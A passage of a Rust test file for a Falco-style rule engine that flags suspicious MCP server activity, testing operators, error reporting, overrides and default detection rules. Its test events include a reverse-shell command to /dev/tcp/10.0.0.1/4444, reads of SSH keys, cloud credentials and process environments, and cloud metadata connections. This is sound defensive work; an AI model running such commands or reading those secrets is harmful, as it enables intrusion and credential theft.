//! Engine tests: every operator, every error class with its file, line and
//! column, overrides, outputs, dispatch, the default rules and Falco's files.
use super::*;
use crate::{event::Event, priority::Priority};

fn load(text: &str) -> RuleSet {
    match RuleSet::load(&[RuleSource::new("t.yaml", text)]) {
        Ok((set, _)) => set,
        Err(e) => panic!(
            "{}",
            e.errors.iter().map(|d| d.render(false)).collect::<String>()
        ),
    }
}

fn load_err(text: &str) -> Vec<Diagnostic> {
    match RuleSet::load(&[RuleSource::new("t.yaml", text)]) {
        Ok(_) => panic!("expected an error"),
        Err(e) => e.errors,
    }
}

/// A one-rule file whose condition is `cond`.
fn rule(cond: &str) -> String {
    format!("- rule: r\n  desc: d\n  condition: {cond}\n  output: o\n  priority: warning\n")
}

fn fires(cond: &str, ev: &Event) -> bool {
    let set = load(&rule(cond));
    set.matching(ev).next().is_some()
}

fn open_ev(path: &str) -> Event {
    Event {
        evt_type: "openat".into(),
        category: "file".into(),
        pid: 10,
        name: "node".into(),
        cmdline: "node server.js --root /srv".into(),
        args: "server.js --root /srv".into(),
        argv: vec![
            "node".into(),
            "server.js".into(),
            "--root".into(),
            "/srv".into(),
        ]
        .into(),
        pname: "npm exec".into(),
        anames: vec!["npm exec".into(), "claude".into()].into(),
        apids: vec![9, 1].into(),
        fd_name: Some(path.into()),
        arg_path: Some(path.into()),
        fd_typechar: Some("f".into()),
        fd_num: Some(3),
        res: Some("SUCCESS".into()),
        rawres: Some(3),
        is_open_read: Some(true),
        is_open_write: Some(false),
        mcp_server: Some("fs".into()),
        mcp_roots: vec!["/srv".into()],
        ..Default::default()
    }
}

fn connect_ev(ip: &str, port: u16) -> Event {
    Event {
        evt_type: "connect".into(),
        category: "net".into(),
        name: "node".into(),
        fd_typechar: Some(if ip.contains(':') { "6" } else { "4" }.into()),
        fd_dip: Some(ip.parse().unwrap()),
        fd_dport: Some(port),
        fd_name: Some(format!("{ip}:{port}")),
        mcp_server: Some("fetch".into()),
        ..Default::default()
    }
}

fn exec_ev(name: &str, argv: &[&str], pname: &str) -> Event {
    Event {
        evt_type: "execve".into(),
        category: "process".into(),
        name: name.into(),
        exepath: format!("/usr/bin/{name}"),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        args: argv[1..].join(" ").into(),
        cmdline: format!("{name} {}", argv[1..].join(" ")).into(),
        pname: pname.into(),
        anames: vec![pname.into(), "node".into()].into(),
        mcp_server: Some("fs".into()),
        ..Default::default()
    }
}

#[test]
fn string_operators() {
    let ev = open_ev("/home/u/.ssh/id_rsa");
    let yes = [
        "fd.name = /home/u/.ssh/id_rsa",
        "fd.name == '/home/u/.ssh/id_rsa'",
        "fd.name != /etc/passwd",
        "fd.name in (/a, /home/u/.ssh/id_rsa)",
        "fd.name intersects (/home/u/.ssh/id_rsa)",
        "fd.name contains .ssh/",
        "fd.name icontains .SSH/ID_",
        "fd.name bcontains 2e737368",
        "fd.name bstartswith 2f686f6d65",
        "fd.name startswith /home/",
        "fd.name endswith id_rsa",
        "fd.name glob '/home/*/.ssh/id_*'",
        "fd.name pmatch (/home/u/.ssh)",
        "fd.name regex '^/home/[^/]+/\\.ssh/'",
        "fd.name exists",
        "fd.homerel = .ssh/id_rsa",
        "fd.directory = /home/u/.ssh and fd.filename = id_rsa",
        "proc.name = node and not proc.name = bash",
        "(proc.name = bash or proc.name = node) and fd.num >= 0",
    ];
    for c in yes {
        assert!(fires(c, &ev), "{c}");
    }
    let no = [
        "fd.name = /etc/passwd",
        "fd.name != /home/u/.ssh/id_rsa",
        "fd.name in (/a, /b)",
        "fd.name contains .aws",
        "fd.name icontains .AWS",
        "fd.name startswith /etc",
        "fd.name endswith .pub",
        "fd.name glob '/root/*'",
        "fd.name pmatch (/home/u/.ss, /home/u/.ssh/id)",
        "fd.name regex '^/etc'",
        "container.id exists",
        "mcp.host = x",
        // A missing field makes every comparison false, `!=` included.
        "mcp.host != x",
    ];
    for c in no {
        assert!(!fires(c, &ev), "{c}");
    }
    assert!(fires("not mcp.host = x", &ev));
}

#[test]
fn number_bool_and_list_operators() {
    let ev = open_ev("/srv/a");
    for c in [
        "fd.num = 3",
        "fd.num != 4",
        "fd.num < 4",
        "fd.num <= 3",
        "fd.num > 2",
        "fd.num >= 3",
        "fd.num in (1, 2, 3)",
        "evt.rawres = 0x3",
        "evt.is_open_read = true",
        "evt.is_open_write = false",
        "evt.is_open_write != true",
        "evt.failed = false",
        "proc.aname[0] = node",
        "proc.aname[1] = 'npm exec'",
        "proc.aname[2] = claude",
        "proc.apid[1] = 9",
        "proc.apid[0] = 10",
        "proc.argv[2] = --root",
        "proc.aname = claude",
        "proc.aname intersects (bash, claude)",
        "proc.aname in ('npm exec', claude, x)",
        "proc.aname != bash",
        "proc.apid intersects (1, 5)",
        "proc.apid in (1, 9)",
        "proc.argv contains root",
        "mcp.roots exists",
        "mcp.roots pmatch (/srv)",
        "mcp.in_roots = true",
        "proc.exe = node",
    ] {
        assert!(fires(c, &ev), "{c}");
    }
    for c in [
        "fd.num = 4",
        "fd.num < 3",
        "fd.num > 3",
        "fd.num in (1, 2)",
        "evt.is_open_read = false",
        "proc.aname[3] = x",
        "proc.aname[3] exists",
        "proc.aname in (claude)",
        "proc.aname != claude",
        "proc.apid in (1)",
        "proc.argv intersects (-c, -e)",
        "fd.name in ()",
    ] {
        assert!(!fires(c, &ev), "{c}");
    }
    let outside = open_ev("/etc/passwd");
    assert!(fires("mcp.in_roots = false", &outside));
}

#[test]
fn addresses_and_networks() {
    let meta = connect_ev("169.254.169.254", 80);
    let internal = connect_ev("10.1.2.3", 22);
    let v6 = connect_ev("fd00:ec2::254", 80);
    let public = connect_ev("93.184.216.34", 443);
    let c = "fd.dip in (10.0.0.0/8, 169.254.169.254, 'fd00:ec2::254')";
    assert!(fires(c, &meta) && fires(c, &internal) && fires(c, &v6));
    assert!(!fires(c, &public));
    assert!(fires("fd.dip = 10.0.0.0/8", &internal));
    assert!(!fires("fd.dip = 10.0.0.0/8", &public));
    assert!(fires("fd.dip != 10.0.0.0/8", &public));
    assert!(fires("fd.rip = 10.1.2.3 and fd.rport = 22", &internal));
    assert!(fires("fd.dip in ('::/0', 0.0.0.0/0)", &public));
    assert!(!fires("fd.sip exists", &public));
    // Falco pastes list items into the condition: quotes inside an item quote it.
    let text = format!(
        "- list: addrs\n  items: ['\"169.254.169.254\"', \"'10.0.0.0/8'\"]\n{}",
        rule("fd.dip in (addrs)")
    );
    let set = load(&text);
    assert!(set.matching(&meta).next().is_some() && set.matching(&internal).next().is_some());
    assert!(set.matching(&public).next().is_none());
}

#[test]
fn fields_of_the_escape_privilege_and_exposure_calls() {
    let mount = Event {
        evt_type: "mount".into(),
        category: "security".into(),
        res: Some("EPERM".into()),
        rawres: Some(-1),
        arg_type: Some("tmpfs".into()),
        arg_flags: Some("MS_BIND|MS_REC".into()),
        fs_path_name: Some("/srv/x".into()),
        ..Default::default()
    };
    assert!(fires(
        "evt.type = mount and evt.arg.type = tmpfs and evt.failed = true and fs.path.name startswith /srv",
        &mount
    ));
    assert!(fires("evt.arg.flags contains MS_BIND", &mount));
    let kill = Event {
        evt_type: "kill".into(),
        arg_sig: Some("SIGKILL".into()),
        rawarg_sig: Some(9),
        target_pid: Some(42),
        target_in_tree: Some(false),
        ..Default::default()
    };
    assert!(fires(
        "evt.arg.sig = SIGKILL and target.in_tree = false",
        &kill
    ));
    assert!(!fires("target.server exists", &kill));
    let accept = Event {
        evt_type: "accept4".into(),
        fd_cip: Some("10.0.0.9".parse().unwrap()),
        fd_cport: Some(5000),
        fd_sip: Some("0.0.0.0".parse().unwrap()),
        fd_sport: Some(8080),
        ..Default::default()
    };
    assert!(fires(
        "fd.cip = 10.0.0.0/8 and fd.rip = 10.0.0.9 and fd.rport = 5000",
        &accept
    ));
    assert!(fires("fd.sip = 0.0.0.0 and fd.lport = 8080", &accept));
    let setuid = Event {
        evt_type: "setresuid".into(),
        arg_ruid: Some(-1),
        arg_euid: Some(0),
        ..Default::default()
    };
    assert!(fires("evt.arg.euid = 0 and evt.arg.ruid < 0", &setuid));
    let dup = Event {
        evt_type: "dup2".into(),
        arg_newfd: Some(1),
        fd_typechar: Some("p".into()),
        ..Default::default()
    };
    assert!(fires("evt.arg.newfd in (0, 1, 2) and fd.type = pipe", &dup));
}

#[test]
fn lists_macros_overrides_and_exceptions() {
    let base = "
- list: shells
  items: [bash, sh]
- list: more_shells
  items: [shells, zsh]
- macro: spawned
  condition: evt.type = execve
- macro: shell_spawn
  condition: spawned and proc.name in (more_shells)
- rule: Shell
  desc: d
  condition: shell_spawn
  output: shell %proc.name
  priority: notice
  exceptions:
    - name: by_parent
      fields: [proc.pname, proc.name]
      comps: [=, in]
      values:
        - [make, [sh, bash]]
";
    let user = "
- list: shells
  items: [fish]
  override:
    items: append
- macro: spawned
  condition: and proc.pname != ignored
  append: true
- rule: Shell
  exceptions:
    - name: by_parent
      values:
        - [cron, [fish]]
  override:
    exceptions: append
- rule: Shell
  priority: critical
  override:
    priority: replace
";
    let (set, _) = RuleSet::load(&[
        RuleSource::new("base.yaml", base),
        RuleSource::new("user.yaml", user),
    ])
    .unwrap();
    let r = set.rule("Shell").unwrap();
    assert_eq!(r.priority(), Priority::Critical);
    assert_eq!(r.event_types(), Some(&["execve".to_string()][..]));
    let ev = |name: &str, pname: &str| exec_ev(name, &[name], pname);
    assert!(r.matches(&ev("bash", "node")));
    assert!(r.matches(&ev("zsh", "node")));
    assert!(r.matches(&ev("fish", "node")), "appended list item");
    assert!(!r.matches(&ev("python", "node")));
    assert!(
        !r.matches(&ev("bash", "ignored")),
        "appended macro condition"
    );
    assert!(!r.matches(&ev("sh", "make")), "exception");
    assert!(r.matches(&ev("zsh", "make")));
    assert!(!r.matches(&ev("fish", "cron")), "appended exception values");

    // Replace, and switching a rule off the legacy way.
    let user2 = "
- macro: shell_spawn
  condition: proc.name = dash
  override:
    condition: replace
- rule: Shell
  enabled: false
";
    let (set, _) = RuleSet::load(&[
        RuleSource::new("base.yaml", base),
        RuleSource::new("user.yaml", user2),
    ])
    .unwrap();
    let r = set.rule("Shell").unwrap();
    assert!(!r.enabled());
    assert!(r.matches(&ev("dash", "x")));
    assert!(!r.matches(&ev("bash", "x")));
    assert_eq!(set.matching(&ev("dash", "x")).count(), 0, "disabled");
}

#[test]
fn output_template_and_fields() {
    let set = load(
        "- rule: r\n  desc: d\n  condition: fd.name startswith /home and proc.aname[2] = claude\n  output: '%mcp.server read %fd.name via %proc.aname[2] host=%mcp.host 100%%'\n  priority: info\n  tags: [T1552, slowmist.5]\n",
    );
    let ev = open_ev("/home/u/.aws/credentials");
    let mut got = Vec::new();
    set.evaluate(&ev, |m| {
        got.push((
            m.rule.to_string(),
            m.priority,
            m.output.clone(),
            m.output_fields.clone(),
            m.tags.to_vec(),
        ))
    });
    assert_eq!(got.len(), 1);
    let (rule, prio, output, fields, tags) = &got[0];
    assert_eq!(rule, "r");
    assert_eq!(*prio, Priority::Informational);
    assert_eq!(
        output,
        "fs read /home/u/.aws/credentials via claude host=<NA> 100%"
    );
    let keys: Vec<&str> = fields.keys().map(String::as_str).collect();
    assert_eq!(keys, ["fd.name", "mcp.host", "mcp.server", "proc.aname[2]"]);
    assert_eq!(fields["mcp.host"], serde_json::Value::Null);
    assert_eq!(fields["proc.aname[2]"], "claude");
    assert_eq!(tags, &["T1552".to_string(), "slowmist.5".to_string()]);
}

#[test]
fn dispatch_by_event_type_and_catch_all_warning() {
    let text = "
- rule: typed
  desc: d
  condition: evt.type in (open, openat) and fd.name exists
  output: o
  priority: notice
- rule: untyped
  desc: d
  condition: proc.name = node
  output: o
  priority: notice
";
    let (set, warnings) = RuleSet::load(&[RuleSource::new("t.yaml", text)]).unwrap();
    assert!(
        warnings
            .iter()
            .any(|w| w.kind == Kind::NoEventType && w.location.line == 7),
        "{warnings:?}"
    );
    let (types, catch_all) = set.event_types();
    assert_eq!(types.into_iter().collect::<Vec<_>>(), ["open", "openat"]);
    assert!(catch_all);
    let names = |ev: &Event| {
        set.matching(ev)
            .map(|r| r.name().to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(names(&open_ev("/x")), ["typed", "untyped"]);
    assert_eq!(names(&exec_ev("node", &["node"], "x")), ["untyped"]);
}

#[test]
fn diff_reports_added_removed_changed() {
    let a = load(&format!(
        "{}- rule: s\n  desc: d\n  condition: evt.type = connect\n  output: o\n  priority: notice\n",
        rule("evt.type = execve")
    ));
    let b = load(&format!(
        "{}- rule: t\n  desc: d\n  condition: evt.type = connect\n  output: o\n  priority: notice\n",
        rule("evt.type = execve and proc.name = sh")
    ));
    let d = diff(&a, &b);
    assert_eq!(d.added, ["t"]);
    assert_eq!(d.removed, ["s"]);
    assert_eq!(d.changed, ["r"]);
    assert_eq!(diff(&a, &a), ReloadSummary::default());
}

/// The one error of loading `text`: kind, line, column.
fn one_error(text: &str) -> (Kind, usize, usize, Diagnostic) {
    let errs = load_err(text);
    let d = errs[0].clone();
    assert_eq!(&*d.location.file, "t.yaml");
    assert!(d.expected.is_some(), "{d:?}");
    (d.kind, d.location.line, d.location.col, d)
}

#[test]
fn error_unknown_field() {
    let (k, l, c, d) = one_error(&rule("evt.type = execve and proc.nmae = bash"));
    assert_eq!((k, l, c), (Kind::UnknownField, 3, 36));
    assert!(d.expected.unwrap().contains("proc.name"));
    let (k, l, c, _) = one_error(&rule("evt.type = execve and proc.tty = 0"));
    assert_eq!((k, l, c), (Kind::UnsupportedField, 3, 36));
    // In an output.
    let (k, l, c, _) = one_error(
        "- rule: r\n  desc: d\n  condition: evt.type = execve\n  output: x %proc.bogus\n  priority: notice\n",
    );
    assert_eq!((k, l, c), (Kind::UnknownField, 4, 13));
}

#[test]
fn error_type_mismatch() {
    let (k, l, c, _) = one_error(&rule("evt.type = execve and proc.name > 3"));
    assert_eq!((k, l, c), (Kind::TypeMismatch, 3, 46));
    let (k, l, c, _) = one_error(&rule("fd.num = three"));
    assert_eq!((k, l, c), (Kind::TypeMismatch, 3, 23));
    let (k, l, c, _) = one_error(&rule("evt.is_open_read = maybe"));
    assert_eq!((k, l, c), (Kind::TypeMismatch, 3, 33));
    let (k, l, c, _) = one_error(&rule("proc.name[1] = x"));
    assert_eq!((k, l, c), (Kind::TypeMismatch, 3, 14));
}

#[test]
fn error_unbalanced_parenthesis() {
    // In a folded block scalar: the error points at the `(` on line 4.
    let text = "- rule: r\n  desc: d\n  condition: >\n    evt.type = execve and\n      (proc.name = a or proc.name = b\n  output: o\n  priority: notice\n";
    let (k, l, c, d) = one_error(text);
    assert_eq!((k, l, c), (Kind::Syntax, 5, 7));
    assert_eq!(d.expected.as_deref(), Some("`)`"));
    let (k, l, c, _) = one_error(&rule("evt.type = execve and proc.name = a)"));
    assert_eq!((k, l, c), (Kind::Syntax, 3, 49));
}

#[test]
fn error_undefined_macro_and_list() {
    let (k, l, c, _) = one_error(&rule("evt.type = execve and not my_macro"));
    assert_eq!((k, l, c), (Kind::UndefinedMacro, 3, 40));
    let (k, l, c, _) = one_error(&rule("evt.type = execve and proc.name in my_shells"));
    assert_eq!((k, l, c), (Kind::UndefinedList, 3, 49));
}

#[test]
fn error_macro_cycle() {
    let text = "- macro: a\n  condition: evt.type = execve and b\n- macro: b\n  condition: proc.name = x or a\n- rule: r\n  desc: d\n  condition: a\n  output: o\n  priority: notice\n";
    let (k, l, c, d) = one_error(text);
    assert_eq!((k, l, c), (Kind::MacroCycle, 4, 31));
    assert!(d.message.contains("a -> b -> a"), "{}", d.message);
}

#[test]
fn error_bad_regex_and_cidr() {
    let (k, l, c, _) = one_error(&rule("evt.type = execve and proc.name regex 'a(b'"));
    assert_eq!((k, l, c), (Kind::BadRegex, 3, 52));
    let (k, l, c, _) = one_error(&rule(
        "evt.type = connect and fd.dip in (10.0.0.0/8, 10.0.0.0/33)",
    ));
    assert_eq!((k, l, c), (Kind::BadCidr, 3, 60));
    let (k, l, c, _) = one_error(&rule("evt.type = connect and fd.dip = 10.0.0/8"));
    assert_eq!((k, l, c), (Kind::BadCidr, 3, 46));
}

#[test]
fn error_duplicate_rule() {
    let text = format!("{}{}", rule("evt.type = execve"), rule("evt.type = open"));
    let (k, l, c, _) = one_error(&text);
    assert_eq!((k, l, c), (Kind::DuplicateRule, 6, 9));
}

#[test]
fn error_yaml_syntax() {
    let (k, l, c, d) = one_error("- rule: r\n  desc: [unclosed\n  condition: x\n");
    println!("{}", d.render(false));
    assert_eq!((k, l, c), (Kind::Yaml, 3, 12));
    let (k, l, c, d) = one_error("- rule: r\n  desc: \"unterminated\n");
    println!("{}", d.render(false));
    assert_eq!((k, l, c), (Kind::Yaml, 2, 9));
    let (k, l, c, d) = one_error("- rule: r\n  desc: d\n   condition: x\n");
    println!("{}", d.render(false));
    assert_eq!((k, l, c), (Kind::Yaml, 3, 13));
}

#[test]
fn error_shape_and_override_of_nothing() {
    let (k, l, c, _) = one_error(
        "- rule: r\n  desc: d\n  condition: evt.type = open\n  output: o\n  priority: loud\n",
    );
    assert_eq!((k, l, c), (Kind::Schema, 5, 13));
    let (k, l, c, _) = one_error("- list: nope\n  items: [a]\n  override:\n    items: append\n");
    assert_eq!((k, l, c), (Kind::UndefinedOverride, 1, 9));
}

#[test]
fn errors_are_all_reported_and_rendered_with_a_caret() {
    let text = "- rule: r\n  desc: d\n  condition: proc.nmae = a and fd.nam = b\n  output: o\n  priority: notice\n";
    let errs = load_err(text);
    assert_eq!(errs.len(), 2);
    let r = errs[1].render(false);
    assert_eq!(
        r.lines().take(3).collect::<Vec<_>>(),
        [
            "t.yaml:3:32: error: unknown field `fd.nam`",
            "3 |   condition: proc.nmae = a and fd.nam = b",
            "  |                                ^",
        ]
    );
}

#[test]
fn lenient_mode_skips_rules_with_unsupported_fields() {
    let text = format!(
        "{}- rule: s\n  desc: d\n  condition: evt.type = open and container.image.repository = x\n  output: o %proc.tty\n  priority: notice\n",
        rule("evt.type = execve")
    );
    let opts = CompileOptions {
        skip_unsupported: true,
    };
    let (set, warnings) = RuleSet::load_with(&[RuleSource::new("t.yaml", text)], &opts).unwrap();
    assert_eq!(set.rules().len(), 1);
    assert_eq!(set.skipped()[0].fields, ["container.image.repository"]);
    assert!(warnings.iter().any(|w| w.kind == Kind::Skipped));
}

#[test]
fn unused_lists_and_macros_warn() {
    let text = format!(
        "- list: l\n  items: [a]\n- macro: m\n  condition: proc.name = a\n{}",
        rule("evt.type = execve")
    );
    let (_, w) = RuleSet::load(&[RuleSource::new("t.yaml", text)]).unwrap();
    let kinds: Vec<(Kind, usize)> = w.iter().map(|w| (w.kind, w.location.line)).collect();
    assert!(kinds.contains(&(Kind::UnusedList, 1)), "{kinds:?}");
    assert!(kinds.contains(&(Kind::UnusedMacro, 3)), "{kinds:?}");
}

#[test]
fn hostile_conditions_are_refused_not_crashed() {
    // Exponential macro growth.
    let mut text = String::from("- macro: m0\n  condition: proc.name = a\n");
    for i in 1..40 {
        text.push_str(&format!(
            "- macro: m{i}\n  condition: m{} or m{}\n",
            i - 1,
            i - 1
        ));
    }
    text.push_str(&rule("evt.type = execve and m39"));
    let errs = load_err(&text);
    assert_eq!(errs[0].kind, Kind::TooComplex);
    // A list that contains itself.
    let errs = load_err(&format!(
        "- list: a\n  items: [b]\n- list: b\n  items: [a]\n{}",
        rule("proc.name in (a)")
    ));
    assert_eq!(errs[0].kind, Kind::ListCycle);
}

fn defaults() -> (RuleSet, Vec<Warning>) {
    RuleSet::load(&default_sources()).unwrap_or_else(|e| {
        panic!(
            "{}",
            e.errors.iter().map(|d| d.render(false)).collect::<String>()
        )
    })
}

#[test]
fn default_rules_are_clean_and_well_tagged() {
    let (set, warnings) = defaults();
    assert!(warnings.is_empty(), "{warnings:#?}");
    assert!(set.rules().len() >= 25);
    for r in set.rules() {
        assert!(
            r.requires_exists(fields::Field::McpServer),
            "{} must require mcp.server exists",
            r.name()
        );
        assert!(!r.desc().trim().is_empty(), "{}", r.name());
        assert!(
            r.tags()
                .iter()
                .any(|t| t.starts_with('T') && t[1..].starts_with(|c: char| c.is_ascii_digit())),
            "{} has no MITRE technique",
            r.name()
        );
        assert!(
            r.tags().iter().any(|t| t.starts_with("slowmist.")),
            "{} has no SlowMist item",
            r.name()
        );
        assert!(r.event_types().is_some(), "{}", r.name());
    }
}

#[test]
fn default_rules_fire_on_their_behaviour_and_not_on_benign_twins() {
    let (set, _) = defaults();
    let hits = |ev: &Event| {
        set.matching(ev)
            .map(|r| r.name().to_string())
            .collect::<Vec<_>>()
    };
    let untagged = |mut ev: Event| {
        ev.mcp_server = None;
        ev
    };
    let cases: Vec<(Event, &str)> = vec![
        (
            open_ev("/home/u/.ssh/id_ed25519"),
            "MCP server read SSH keys or configuration",
        ),
        (
            open_ev("/root/.aws/credentials"),
            "MCP server read cloud or cluster credentials",
        ),
        (
            open_ev("/home/u/.kube/config"),
            "MCP server read cloud or cluster credentials",
        ),
        (
            open_ev("/home/u/project/.env"),
            "MCP server read a dotenv file",
        ),
        (
            open_ev("/proc/4242/environ"),
            "MCP server read another process's environment",
        ),
        (
            connect_ev("169.254.169.254", 80),
            "MCP server contacted a cloud metadata endpoint",
        ),
        (
            connect_ev("fd00:ec2::254", 80),
            "MCP server contacted a cloud metadata endpoint",
        ),
        (
            connect_ev("10.0.0.7", 6443),
            "MCP server connected to an internal admin port",
        ),
        (
            exec_ev("bash", &["bash", "-c", "id"], "node"),
            "Shell spawned by MCP server",
        ),
        (
            exec_ev("python3", &["python3", "-c", "print(1)"], "node"),
            "Interpreter one-liner run by MCP server",
        ),
        (
            exec_ev("ssh", &["ssh", "host"], "node"),
            "Remote access tool run by MCP server",
        ),
        (
            exec_ev(
                "bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
                "node",
            ),
            "Reverse shell started by MCP server",
        ),
        (
            exec_ev("sudo", &["sudo", "id"], "node"),
            "Privilege elevation tool run by MCP server",
        ),
    ];
    for (ev, rule) in cases {
        assert!(
            hits(&ev).iter().any(|h| h == rule),
            "{rule}: {:?} got {:?}",
            ev.fd_name,
            hits(&ev)
        );
        assert!(
            hits(&untagged(ev)).is_empty(),
            "{rule} fired for an untagged process"
        );
    }
    // The fixture's server has the root /srv.
    assert!(
        hits(&open_ev("/home/u/private/notes.md"))
            .contains(&"MCP server read a home file outside its roots".to_string())
    );
    assert!(hits(&open_ev("/home/u/.npm/_cacache/index")).is_empty());
    let mut w = open_ev("/home/u/.bashrc");
    w.is_open_write = Some(true);
    assert!(hits(&w).contains(&"MCP server modified a shell startup file".to_string()));
    let mut w = open_ev("/home/u/.cursor/mcp.json");
    w.is_open_write = Some(true);
    assert!(hits(&w).contains(&"MCP server modified AI host or agent configuration".to_string()));
    // Benign twins.
    for ev in [
        open_ev("/srv/notes.txt"),
        open_ev("/srv/project/.env.example"),
        open_ev("/usr/lib/node_modules/x/.env"),
        open_ev("/proc/self/environ"),
        connect_ev("93.184.216.34", 443),
        connect_ev("127.0.0.1", 5432),
        exec_ev("sh", &["sh", "-c", "mcp-server-x"], "npm exec"),
        exec_ev("git", &["git", "status"], "node"),
    ] {
        assert!(
            hits(&ev).is_empty(),
            "{:?} {:?} {:?}",
            ev.name,
            ev.fd_name,
            hits(&ev)
        );
    }
}

#[test]
fn falco_corpus_parses_without_panic() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpus/falco");
    let Ok(paths) = read_path(&dir) else {
        println!("skipped: {} not found", dir.display());
        return;
    };
    let opts = CompileOptions {
        skip_unsupported: true,
    };
    let (mut total, mut compiled, mut unsupported, mut incompatible, mut failed) = (0, 0, 0, 0, 0);
    let mut field_counts: std::collections::BTreeMap<String, usize> = Default::default();
    for src in paths {
        let started = std::time::Instant::now();
        let rules_in_file =
            src.text.matches("\n- rule:").count() + usize::from(src.text.starts_with("- rule:"));
        total += rules_in_file;
        match RuleSet::load_with(std::slice::from_ref(&src), &opts) {
            Ok((set, _)) => {
                let unsup = set
                    .skipped()
                    .iter()
                    .filter(|s| !s.fields.is_empty())
                    .count();
                let incompat = set.skipped().len() - unsup;
                compiled += set.rules().len();
                unsupported += unsup;
                incompatible += incompat;
                for s in set.skipped() {
                    for f in &s.fields {
                        *field_counts.entry(f.clone()).or_default() += 1;
                    }
                    println!(
                        "  skipped `{}`: fields {:?} {:?}",
                        s.name, s.fields, s.incompatible
                    );
                }
                println!(
                    "{}: {rules_in_file} rules, {} compiled, {unsup} use unsupported fields, {incompat} type differences",
                    src.name,
                    set.rules().len(),
                );
            }
            Err(e) => {
                failed += 1;
                for d in &e.errors {
                    println!("  {d}");
                }
                println!("{}: {rules_in_file} rules, load failed", src.name);
            }
        }
        assert!(
            started.elapsed().as_secs() < 10,
            "{} took too long",
            src.name
        );
    }
    println!(
        "falco corpus: {total} rules, {compiled} compiled, {unsupported} use unsupported fields, \
         {incompatible} type differences, {failed} files failed"
    );
    println!("unsupported fields by rules using them: {field_counts:?}");
    assert_eq!(failed, 0);
    assert_eq!(compiled + unsupported + incompatible, total);
    assert!(total > 0);
}

#[test]
fn a_rules_file_that_cannot_be_read_in_a_directory_is_an_error_naming_it() {
    let dir = std::env::temp_dir().join(format!("mcpmon-rulesdir-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("a.yaml"), "- list: a\n  items: [x]\n").unwrap();
    // loop.yaml -> loop.yaml: a symlink loop.
    std::os::unix::fs::symlink(dir.join("loop.yaml"), dir.join("loop.yaml")).unwrap();
    let err = read_path(&dir).unwrap_err();
    assert!(err.to_string().contains("loop.yaml"), "{err}");
    std::fs::remove_file(dir.join("loop.yaml")).unwrap();
    assert_eq!(read_path(&dir).unwrap().len(), 1);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_rules_file_too_large_is_refused_unread() {
    let dir = std::env::temp_dir().join(format!("mcpmon-rulesbig-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let big = dir.join("big.yaml");
    // Sparse: 50 MB by its size, nothing written.
    std::fs::File::create(&big)
        .unwrap()
        .set_len(50_000_000)
        .unwrap();
    let opts = LoadOptions {
        default_rules: false,
        rules_dir: None,
        extra: vec![big.clone()],
        ..LoadOptions::default()
    };
    let Err(err) = load_configured(&opts) else {
        panic!("a 50 MB rules file loaded");
    };
    let text: String = err.errors.iter().map(|d| d.render(false)).collect();
    assert!(
        text.contains("big.yaml")
            && text.contains("50000000 bytes, more than the 16777216 allowed"),
        "{text}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_home_path_entry_matches_the_directory_and_what_is_below_it() {
    let (set, _) = defaults();
    let cloud = set.list("mcp_cloud_credential_paths").unwrap();
    assert!(cloud.iter().any(|i| i == ".aws"));
    let paths = matchers::PathSet::new(cloud.iter().cloned());
    assert!(paths.matches(".aws"));
    assert!(paths.matches(".aws/credentials"));
    assert!(paths.matches(".aws/sso/cache/x.json"));
    assert!(!paths.matches(".awsome"));
    assert!(!paths.matches(".awsome/credentials"));
    assert!(!paths.matches("project/.aws"));
    // The rule sees the directory itself (ls ~/.aws, find ~/.aws).
    let rule = "MCP server read cloud or cluster credentials";
    let hits = |ev: &Event| set.matching(ev).any(|r| r.name() == rule);
    assert!(hits(&open_ev("/home/u/.aws")));
    assert!(hits(&open_ev("/root/.aws/credentials")));
    assert!(!hits(&open_ev("/home/u/.awsome/credentials")));
}

#[test]
fn mode_reads_as_a_number_and_by_name() {
    let mut ev = exec_ev("chmod", &["chmod", "4755", "/tmp/x"], "sh");
    ev.evt_type = "fchmodat".into();
    ev.arg_mode = Some(0o4755);
    assert_eq!(
        fields::mode_names(0o4755),
        "S_ISUID|S_IRUSR|S_IWUSR|S_IXUSR|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH"
    );
    assert_eq!(fields::mode_names(0), "0");
    assert_eq!(
        fields::mode_names(0o100644),
        "S_IRUSR|S_IWUSR|S_IRGRP|S_IROTH"
    );
    assert!(fires("evt.arg.mode contains S_ISUID", &ev));
    assert!(fires("evt.arg.mode_names contains S_ISUID", &ev));
    assert!(fires("evt.arg.mode = 2541", &ev));
    assert!(fires("evt.arg.mode > 2047", &ev));
    assert!(fires("evt.arg.mode in (420, 2541)", &ev));
    assert!(!fires("evt.arg.mode contains S_ISGID", &ev));
    assert!(fires("evt.arg.mode startswith S_ISUID", &ev));
    ev.arg_mode = Some(0o755);
    assert!(!fires("evt.arg.mode contains S_ISUID", &ev));
    ev.arg_mode = None;
    assert!(!fires("evt.arg.mode contains S_IRUSR", &ev));
    // In an output, the name field renders by name, the mode as a number.
    let set = load(
        "- rule: r\n  desc: d\n  condition: evt.arg.mode exists\n  output: m=%evt.arg.mode n=%evt.arg.mode_names\n  priority: warning\n",
    );
    ev.arg_mode = Some(0o2750);
    let mut outputs = Vec::new();
    set.evaluate(&ev, |m| outputs.push(m.output));
    assert_eq!(
        outputs,
        ["m=1512 n=S_ISGID|S_IRUSR|S_IWUSR|S_IXUSR|S_IRGRP|S_IXGRP"]
    );
}

#[test]
fn detection_round_two_rules_fire_on_their_behaviour_and_not_on_their_twins() {
    let (set, _) = defaults();
    let hits = |ev: &Event| {
        set.matching(ev)
            .map(|r| r.name().to_string())
            .collect::<Vec<_>>()
    };
    let write = |path: &str, flags: &str| {
        let mut ev = open_ev(path);
        ev.is_open_read = Some(false);
        ev.is_open_write = Some(true);
        ev.arg_flags = Some(flags.into());
        ev
    };
    let path_ev = |evt: &str, path: &str| {
        let mut ev = open_ev(path);
        ev.evt_type = evt.into();
        ev.fs_path_name = Some(path.into());
        ev
    };
    let rename = |from: &str, to: &str| {
        let mut ev = path_ev("rename", to);
